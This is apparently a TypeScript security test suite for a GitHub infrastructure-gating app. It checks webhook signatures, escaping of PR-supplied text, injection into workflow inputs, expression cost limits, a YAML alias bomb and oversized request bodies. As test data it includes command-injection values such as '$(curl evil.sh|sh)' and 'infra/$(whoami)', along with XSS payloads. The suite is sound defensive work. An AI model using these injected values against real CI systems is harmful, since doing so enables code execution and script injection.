import { request } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Harness, planResult, seedRepo, startHarness } from "../../support/harness.js";
import { issueCommentEvent, pullRequestEvent } from "../../support/webhooks.js";

const STACKS = `apiVersion: flowgate/v1
kind: Stack
metadata: { name: web }
spec: { kind: aws_s3, environment: production, dir: infra/web }
`;

const HOSTILE_FILE = "legacy/$(curl evil.sh|sh)`id`<img src=x onerror=alert(1)>@acme/everyone.tf";

describe("security", () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness();
  });
  afterAll(async () => {
    await h.stop();
  });

  it("refuses unsigned and wrongly signed webhooks, and acts on none of them", async () => {
    const repo = seedRepo(h.gh, { ".github/flowgate/stacks.yml": STACKS }, "signatures");
    const head = h.gh.commit(repo.fullName, "x", { "infra/web/main.tf": "# x\n" });
    const pull = h.gh.openPull({ repo: repo.fullName, head: { ref: "x", sha: head }, user: "dev" });
    const before = h.gh.requests.length;
    const missing = await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull), {
      signature: "missing",
    });
    const wrong = await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull), {
      signature: "wrong",
    });
    expect(missing.status).toBeGreaterThanOrEqual(400);
    expect(wrong.status).toBeGreaterThanOrEqual(400);
    // A refused delivery is never enqueued: once both are counted as rejected and every queue is
    // empty, nothing can still act on them.
    await h.waitFor(async () => {
      const metrics = await (await fetch(h.webhookUrl.replace("/api/github/webhooks", "/metrics"))).text();
      const rejected = /flowgate_webhooks_total\{event="pull_request",outcome="rejected"\} (\d+)/.exec(
        metrics,
      );
      const busy = metrics
        .split("\n")
        .filter((l) => /^flowgate_queue_depth\{.*state="(waiting|active)"\}/.test(l) && !l.endsWith(" 0"));
      return Number(rejected?.[1] ?? 0) >= 2 && busy.length === 0;
    }, "both deliveries to be refused and the queues to be idle");
    expect(h.gh.requests.slice(before).filter((r) => r.path.includes("/signatures"))).toHaveLength(0);
    expect(h.gh.checkRuns(repo.fullName, { headSha: head })).toHaveLength(0);
  });

  it("escapes file names and reasons from PR authors in checks and comments (no HTML, no mentions)", async () => {
    const repo = seedRepo(h.gh, { ".github/flowgate/stacks.yml": STACKS }, "escaping");
    h.gh.setPermission(repo.fullName, "reviewer", "write");
    const head = h.gh.commit(repo.fullName, "y", {
      "infra/web/main.tf": "# y\n",
      [HOSTILE_FILE]: "resource {}\n",
    });
    const pull = h.gh.openPull({ repo: repo.fullName, head: { ref: "y", sha: head }, user: "dev" });
    await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull));
    const dispatch = await h.waitFor(() => h.gh.dispatches(repo.fullName)[0], "the plan dispatch");
    // Nothing a PR author wrote reaches a workflow input: every input is validated configuration.
    for (const value of Object.values(dispatch.inputs)) expect(value).toMatch(/^[A-Za-z0-9._/-]*$/);
    await h.gh.completeRun(repo.fullName, dispatch.runId, {
      conclusion: "success",
      result: planResult(dispatch),
    });
    await h.gh.sendWebhook(
      "issue_comment",
      issueCommentEvent(h.gh, pull, {
        login: "reviewer",
        body: "/reject -- <script>alert(1)</script> cc @acme/security",
      }),
    );
    const sticky = await h.waitFor(
      () =>
        h.gh
          .comments(repo.fullName, pull.number)
          .find((c) => c.body.includes("flowgate:sticky") && c.body.includes("rejected")),
      "the sticky comment showing the rejection",
    );
    const aggregate = h.gh.checkRuns(repo.fullName, { headSha: head, name: "flowgate" }).at(-1)!;
    for (const text of [sticky.body, aggregate.output.summary ?? ""]) {
      // Code spans render literally (CommonMark): no HTML, no mentions inside them. Outside, nothing raw.
      const outsideCode = text.replace(/`[^`\n]*`/g, "");
      expect(outsideCode).not.toMatch(/<img|<script/);
      expect(outsideCode).not.toMatch(/@acme\/(everyone|security)/);
    }
    expect(sticky.body).toContain(
      "`legacy/$(curl evil.sh|sh)'id'<img src=x onerror=alert(1)>@acme/everyone.tf`",
    );
    expect(sticky.body).toContain("belong to no stack");
  });

  it("rejects stack names and directories that could inject into workflow inputs", async () => {
    const bad = `apiVersion: flowgate/v1
kind: Stack
metadata: { name: "web; curl evil.sh | sh" }
spec: { kind: aws_s3, environment: production, dir: "infra/$(whoami)" }
`;
    const repo = seedRepo(h.gh, { ".github/flowgate/stacks.yml": bad }, "injection");
    const head = h.gh.commit(repo.fullName, "z", { "infra/web/main.tf": "# z\n" });
    const pull = h.gh.openPull({ repo: repo.fullName, head: { ref: "z", sha: head }, user: "dev" });
    await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull));
    const check = await h.waitFor(
      () => h.gh.checkRuns(repo.fullName, { headSha: head, name: "flowgate" })[0],
      "the flowgate check",
    );
    expect(check.conclusion).toBe("failure");
    expect(check.output.summary).toContain(".github/flowgate/stacks.yml:");
    expect(h.gh.dispatches(repo.fullName)).toHaveLength(0);
  });

  it("bounds expression cost: a condition too costly for the plan fails closed, with the reason", async () => {
    const costly = `${STACKS}---
apiVersion: flowgate/v1
kind: FlowControlPolicy
metadata: { name: costly }
spec:
  selector: { kind: environment, id: production }
  flowControl:
    pauseBetweenPreviewAndUpdateOrDestroy: true
    conditions:
      - if: "plan.resources.all(a, plan.resources.all(b, plan.resources.all(c, a.address != '')))"
        then: { pauseBetweenPreviewAndUpdateOrDestroy: false }
`;
    const repo = seedRepo(h.gh, { ".github/flowgate/stacks.yml": costly }, "cost");
    const head = h.gh.commit(repo.fullName, "c", { "infra/web/main.tf": "# c\n" });
    const pull = h.gh.openPull({ repo: repo.fullName, head: { ref: "c", sha: head }, user: "dev" });
    await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull));
    const dispatch = await h.waitFor(() => h.gh.dispatches(repo.fullName)[0], "the plan dispatch");
    await h.gh.completeRun(repo.fullName, dispatch.runId, {
      conclusion: "success",
      result: planResult(dispatch, { add: 300, change: 0, destroy: 0, replace: 0 }),
    });
    const check = await h.waitFor(
      () =>
        h.gh
          .checkRuns(repo.fullName, { headSha: head, name: "flowgate" })
          .find((c) => c.conclusion === "failure"),
      "the flowgate check to fail closed",
    );
    expect(check.output.summary).toMatch(/cost/);
  });

  it("refuses a YAML alias bomb in configuration without crashing, naming the file", async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 12; i++)
      levels.push(
        `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)}]`,
      );
    const repo = seedRepo(
      h.gh,
      { ".github/flowgate/stacks.yml": STACKS, ".github/flowgate/bomb.yml": levels.join("\n") },
      "bomb",
    );
    const head = h.gh.commit(repo.fullName, "b", { "infra/web/main.tf": "# b\n" });
    const pull = h.gh.openPull({ repo: repo.fullName, head: { ref: "b", sha: head }, user: "dev" });
    await h.gh.sendWebhook("pull_request", pullRequestEvent(h.gh, "opened", pull));
    const check = await h.waitFor(
      () => h.gh.checkRuns(repo.fullName, { headSha: head, name: "flowgate" })[0],
      "the flowgate check",
    );
    expect(check.conclusion).toBe("failure");
    expect(check.output.summary).toContain(".github/flowgate/bomb.yml");
    // The app still answers.
    const health = await fetch(h.webhookUrl.replace("/api/github/webhooks", "/healthz"));
    expect(health.status).toBe(200);
  });

  it("refuses a webhook body declared over GitHub's 25 MB limit with 413 before reading it", async () => {
    const url = new URL(h.webhookUrl);
    const post = (
      headers: Record<string, string | number>,
      write: (req: ReturnType<typeof request>) => void,
    ) =>
      new Promise<number>((resolve, reject) => {
        const req = request(
          { host: url.hostname, port: url.port, path: url.pathname, method: "POST", headers },
          (res) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          },
        );
        req.on("error", reject);
        write(req);
      });
    const headers = {
      "content-type": "application/json",
      "x-github-event": "ping",
      "x-github-delivery": "big",
    };
    // Declared too large: answered from the headers alone, nothing read.
    const declared = await post({ ...headers, "content-length": 26 * 1024 * 1024 }, (req) => req.write("{"));
    expect(declared).toBe(413);
    // The app still answers afterwards.
    expect((await fetch(h.webhookUrl.replace("/api/github/webhooks", "/healthz"))).status).toBe(200);
  });
});
